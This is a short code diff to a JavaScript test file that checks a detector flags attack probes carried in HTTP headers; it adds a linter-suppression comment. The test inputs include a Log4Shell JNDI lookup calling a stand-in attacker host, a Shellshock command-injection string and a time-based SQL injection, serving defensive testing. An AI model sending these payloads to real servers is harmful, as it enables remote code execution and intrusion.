@@ -92,6 +92,7 @@ test('paths, numbers, ids and headers of every day are no probes', () => {
 
 test('headers carry probes as well', () => {
   for (const header of [
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker sends
     '${jndi:ldap://evil.example/a}',
     '() { :; }; /bin/bash -c id',
     "Mozilla' and sleep(5)#",
